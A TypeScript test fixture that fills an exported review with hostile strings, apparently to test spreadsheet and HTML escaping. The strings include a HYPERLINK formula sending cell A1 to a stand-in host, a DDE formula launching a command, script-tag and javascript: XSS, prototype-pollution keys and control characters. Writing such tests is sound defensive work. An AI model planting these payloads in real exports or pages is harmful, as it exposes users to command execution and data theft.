/** A review whose page tries everything that spreadsheets are known to fall for. */
import { nothingDecided } from '../../lib/decisions/model';
import { columnSets } from '../../lib/domain/list-columns';
import type { HandingOver } from '../../lib/export/handing-over';
import { usualWishes } from '../../lib/export/notice';
import type { Finding, Review } from '../../lib/judge/model';
import { review, unbalanced } from './reviews';

export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://spam.example/?a="&A1,"点我")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '＝1+1',
  '＋1',
  '－2',
  '＠A1',
  '﹦1',
  '\t=1+1',
  '\r\n=1+1',
  '\u200b=1+1',
  '\ufeff\u2060=1+1',
  '\u202e=1+1',
  '\u0001=1+1',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"a";"b")',
  '0075',
  '430521199001011234',
  '2024-1',
  '2021-01-25',
  '2021年1月25日',
  '1/2',
  '12E5',
  '1,234',
  '12%',
  '(3)',
  '00.10',
  'TRUE',
  '第一行\n第二行\r\n第三行',
  '甲\t乙\t\t丙',
  '引"号"与,逗号;分号',
  '"整格引号"',
  "'撇号",
  '</td></tr></table><script>alert(1)</script>',
  '&lt;b&gt; &amp; <br>',
  ']]><x>',
  '_x003D_1+1',
  '__proto__',
  'constructor',
  '\ud800孤立代理与\uffff',
  '😀𠮷',
  'javascript:alert(1)',
  '\u0000空字节\u001b[31m',
  '{单位}{{问题}}',
];

/** One finding for each text: as its sentence and as what stands on the page. */
export const hostile: Review = {
  ...review,
  findings: hostileTexts.map((text, index): Finding => ({
    ...unbalanced,
    id: `h${index}`,
    message: text,
    advice: text,
    basis: text,
    evidence: { equation: text },
    locations: [{ kind: 'text', section: 'overview', quote: text }],
  })),
  corrections: [],
};

export const over: HandingOver = {
  language: 'zh-CN',
  columns: columnSets.full,
  notice: usualWishes,
  decisions: nothingDecided,
  checkedAt: new Date(2021, 2, 1, 9, 30),
  now: new Date(2021, 2, 2),
};
